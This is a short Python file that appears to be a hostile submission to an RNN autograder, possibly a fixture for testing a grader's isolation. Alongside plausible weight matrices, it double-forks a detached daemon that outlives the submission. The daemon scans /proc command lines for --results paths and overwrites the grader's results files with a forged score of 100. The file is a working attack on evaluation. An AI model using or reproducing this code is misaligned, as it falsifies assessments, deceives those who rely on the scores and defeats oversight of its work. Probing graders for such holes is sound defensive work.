"""Right weights, plus a double-forked daemon that waits, then forges the results the grader wrote."""
import json
import os
import time

MARKER = "/tmp/rnn-autograder-hostile-daemon-alive"


def results_paths():
    """Every --results path on any command line this process can read."""
    found = ["/autograder/results/results.json"]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        found += [words[i + 1] for i, word in enumerate(words[:-1]) if word == "--results"]
    return found


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        with open(MARKER, "w") as out:
            out.write("alive")
        for path in results_paths():
            try:
                with open(path, "w") as out:
                    json.dump({"score": 100, "output": "FORGED", "tests": []}, out)
            except OSError:
                pass
    os._exit(0)
U = [[1.0, 1.0], [1.0, 1.0], [1.0, 1.0]]
W = [[0.0, 1.0, 0.0], [0.0, 1.0, 0.0], [0.0, 1.0, 0.0]]
V = [[1.0, -1.0, 1.0]]
b_h = [-0.5, -1.5, -2.5]
b_y = -0.5
